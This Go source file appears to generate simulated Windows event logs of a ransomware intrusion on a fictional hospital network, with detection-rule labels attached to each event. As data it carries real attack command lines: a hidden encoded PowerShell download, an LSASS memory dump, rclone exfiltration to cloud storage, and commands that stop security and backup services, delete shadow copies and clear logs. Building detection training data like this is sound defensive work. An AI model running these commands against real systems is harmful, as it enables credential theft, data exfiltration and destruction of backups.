package sim

import (
	"fmt"
	"time"
)

// windowsAttack is what the intruder does on Windows, from the letter to the ransom note.
func (s *story) windowsAttack() []windowsEvent {
	var events []windowsEvent
	for _, part := range []func() []windowsEvent{s.wayIn, s.lookAround, s.spread, s.blind, s.destroy} {
		events = append(events, part()...)
	}
	return events
}

// found adds the truth about a Windows event and returns the event.
func (s *story) found(e windowsEvent, rule, sentence string) windowsEvent {
	s.happened(e.at, windowsFile, rule, sentence)
	return e
}

// wayIn: a letter is opened, and starts a hidden command.
func (s *story) wayIn() []windowsEvent {
	p := mirage()
	const encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAA=="
	e := process(s.at(16, 2, 0), p.workstation, account(p.login), power, "PowerShell.EXE", `C:\Program Files\Office\WINWORD.EXE`,
		"powershell.exe -nop -w hidden -enc "+encoded)
	s.happened(e.at, windowsFile, "Hidden PowerShell that downloads and runs", "The command is hidden from the eye.")
	return []windowsEvent{s.found(e, "A document or mail starts a command", "Corin Mirage opens a letter that starts PowerShell.")}
}

// lookAround: the network is explored, and passwords are taken.
func (s *story) lookAround() []windowsEvent {
	p := mirage()
	var events []windowsEvent
	for i, c := range [][2]string{
		{"whoami.exe", "whoami /all"}, {"nltest.exe", "nltest /dclist:example"}, {"net.exe", `net group "Domain Admins" /domain`},
		{"systeminfo.exe", "systeminfo"}, {"quser.exe", "quser /server:SRV-APP-07"}, {"arp.exe", "arp -a"},
	} {
		events = append(events, process(s.at(23, 10, 20*i), p.workstation, account(p.login), systemDir+c[0], c[0], shell, c[1]))
	}
	s.happened(s.at(23, 10, 0), windowsFile, "One person explores the network with many commands", "The intruder finds the way around.")
	for i := range 8 {
		events = append(events, windowsEvent{s.at(23, 20, 5*i), security, 4769, host("DC-01"), data{
			"TargetUserName": p.login + "@EXAMPLE.ORG", "ServiceName": fmt.Sprintf("svc_app%d", i+1), "TicketEncryptionType": "0x17",
			"Status": "0x0", "IpAddress": "::ffff:" + p.ip,
		}})
	}
	s.happened(s.at(23, 20, 0), windowsFile, "Tickets of many services asked for in an old form", "The passwords of service accounts will be guessed at leisure.")
	dcsync := windowsEvent{s.at(24, 58, 0), security, 4662, host("DC-01"), data{
		"SubjectUserName": "svc_deploy", "ObjectServer": "DS", "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
	}}
	lsass := process(s.at(25, 0, 0), "SRV-APP-07", account("svc_deploy"), systemDir+"rundll32.exe", "RUNDLL32.EXE", shell,
		`rundll32 C:\Windows\System32\comsvcs.dll, #24 712 C:\Temp\o.bin full`)
	return append(events,
		s.found(dcsync, "Passwords of the whole network copied from the directory", "The directory hands out all passwords."),
		s.found(lsass, "Passwords read from memory or from the system", "The memory of the login process is copied."))
}

// spread: remote control, new administrators, one computer after the other.
func (s *story) spread() []windowsEvent {
	p := mirage()
	const app = "SRV-APP-07"
	anydesk := process(s.at(24, 40, 0), p.workstation, account(p.login), `C:\Users\c.mirage\Downloads\AnyDesk.exe`, "", explorer, "AnyDesk.exe")
	anydesk.data["Product"] = "AnyDesk"
	login := windowsEvent{s.at(24, 55, 0), security, 4624, host(app), data{"TargetUserName": "svc_deploy", "LogonType": 10, "IpAddress": p.ip}}
	service := s.service(s.at(25, 5, 0), app, "AnyDesk Service", `"C:\ProgramData\AnyDesk\AnyDesk.exe" --service`)
	wmi := process(s.at(25, 15, 0), app, account("svc_deploy"), shell, "Cmd.Exe", systemDir+`wbem\WmiPrvSE.exe`,
		`cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1772241300.1 2>&1`)
	const sid = "S-1-5-21-1111-2222-3333-1044"
	made := windowsEvent{s.at(25, 19, 0), security, 4720, host("DC-01"), data{"TargetUserName": "helpdesk2", "TargetSid": sid, "SubjectUserName": "svc_deploy"}}
	admin := windowsEvent{s.at(25, 20, 0), security, 4728, host("DC-01"), data{
		"TargetUserName": "Domain Admins", "TargetSid": "S-1-5-21-1111-2222-3333-512", "MemberSid": sid, "SubjectUserName": "svc_deploy",
		"SubjectUserSid": "S-1-5-21-1111-2222-3333-1109",
	}}
	s.happened(made.at, windowsFile, "New account made administrator within the hour", "A new account becomes administrator a minute later.")
	events := []windowsEvent{
		s.found(anydesk, "Remote control software run from an odd folder", "The intruder takes over a workstation at registration."),
		s.found(login, "A service account logs in like a person", "A service account is used by hand."),
		s.found(service, "Remote control software installed as a service", "Remote control stays on a server."),
		s.found(wmi, "Command run on a computer from another one through WMI", "A command is run from afar."),
		made, s.found(admin, "Account added to an administrators group", "helpdesk2 is administrator of the network."),
	}
	for i, computer := range []string{"WS-ED-03", "WS-ED-04", "WS-ICU-11", "WS-ICU-12", "SRV-FILE-01", "SRV-LIS-01"} {
		events = append(events, s.service(s.at(25, 50, 7*i), computer, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`))
	}
	s.happened(s.at(25, 50, 0), windowsFile, "Program pushed onto another computer as a service", "The program is pushed onto six computers.")
	policy := windowsEvent{s.at(26, 5, 0), security, 5136, host("DC-01"), data{
		"SubjectUserName": "helpdesk2", "AttributeLDAPDisplayName": "gPCMachineExtensionNames",
		"AttributeValue": "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]",
	}}
	return append(events, s.found(policy, "Group Policy changed so that computers run something", "All computers get a task for the night."))
}

func (s *story) service(at time.Time, computer, name, path string) windowsEvent {
	return windowsEvent{at, system, 7045, host(computer), data{"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "auto start"}}
}

// blind: files leave, protection and backup go.
func (s *story) blind() []windowsEvent {
	const file, user = "SRV-FILE-01", `EXAMPLE\helpdesk2`
	out := process(s.at(25, 30, 0), file, user, `C:\ProgramData\rclone.exe`, "rclone.exe", shell, `rclone.exe copy D:\Letters mega:out --transfers 20`)
	edr := process(s.at(25, 40, 0), file, user, systemDir+"sc.exe", "sc.exe", shell, "sc stop CSFalconService")
	exclude := process(s.at(25, 41, 0), file, user, power, "PowerShell.EXE", shell, `powershell Add-MpPreference -ExclusionPath C:\`)
	backup := process(s.at(25, 58, 0), "SRV-BACKUP-01", user, systemDir+"net.exe", "net.exe", shell, "net stop VeeamBackupSvc /y")
	events := []windowsEvent{
		s.found(out, "Files copied to the cloud in bulk", "Letters of patients are copied out."),
		s.found(edr, "Virus or threat protection stopped", "Protection is stopped on the file server."),
		s.found(exclude, "Microsoft Defender weakened by command", "Defender looks away."),
		s.found(backup, "Backup software stopped or disabled", "The backup is stopped."),
	}
	for i := range 14 {
		events = append(events, process(s.at(26, 0, 6*i), "SRV-LIS-01", user, systemDir+"net1.exe", "net1.exe", systemDir+"net.exe", fmt.Sprintf(`net1 stop LabService%d /y`, i+1)))
	}
	s.happened(s.at(26, 0, 0), windowsFile, "Many services stopped one after the other", "The laboratory's services are stopped one by one.")
	return events
}

// destroy: ways back are cut, files encrypted, traces removed.
func (s *story) destroy() []windowsEvent {
	const file, user = "SRV-FILE-01", `EXAMPLE\helpdesk2`
	shadows := process(s.at(26, 11, 4), file, user, systemDir+"vssadmin.exe", "VSSADMIN.EXE", shell, "vssadmin.exe Delete Shadows /all /quiet")
	catalog := process(s.at(26, 11, 9), file, user, systemDir+"wbadmin.exe", "WBADMIN.EXE", shell, "wbadmin delete catalog -quiet")
	repair := process(s.at(26, 11, 12), file, user, systemDir+"bcdedit.exe", "bcdedit.exe", shell, "bcdedit /set {default} recoveryenabled No")
	cleared := windowsEvent{s.at(26, 30, 0), security, 1102, host("DC-01"), data{"SubjectUserName": "helpdesk2", "SubjectDomainName": "EXAMPLE"}}
	events := []windowsEvent{
		s.found(shadows, "Windows shadow copies deleted", "The snapshots of the file server are gone."),
		s.found(catalog, "Windows backup or its catalog deleted", "The catalog of backups is gone."),
		s.found(repair, "Windows repair at start-up switched off", "The server will not repair itself."),
		s.found(cleared, "Windows event log cleared", "Traces on the domain controller are erased."),
	}
	for i := range 120 {
		events = append(events, windowsEvent{s.at(26, 20, 0).Add(time.Duration(i) * 300 * time.Millisecond), sysmon, 11, host(file), data{
			"Image": `C:\ProgramData\svc\lock.exe`, "TargetFilename": fmt.Sprintf(`D:\Letters\letter%04d.docx.quagga`, i), "User": user,
		}})
	}
	s.happened(s.at(26, 20, 0), windowsFile, "Documents and images renamed in masses", "Letters are encrypted.")
	for i := range 14 {
		events = append(events, windowsEvent{s.at(26, 21, 10*i), sysmon, 11, host(file), data{
			"Image": `C:\ProgramData\svc\lock.exe`, "TargetFilename": fmt.Sprintf(`D:\Ward %d\HOW_TO_RECOVER_FILES.txt`, i+1), "User": user,
		}})
	}
	s.happened(s.at(26, 21, 0), windowsFile, "The same note dropped into many folders", "A note lies in every folder.")
	return events
}
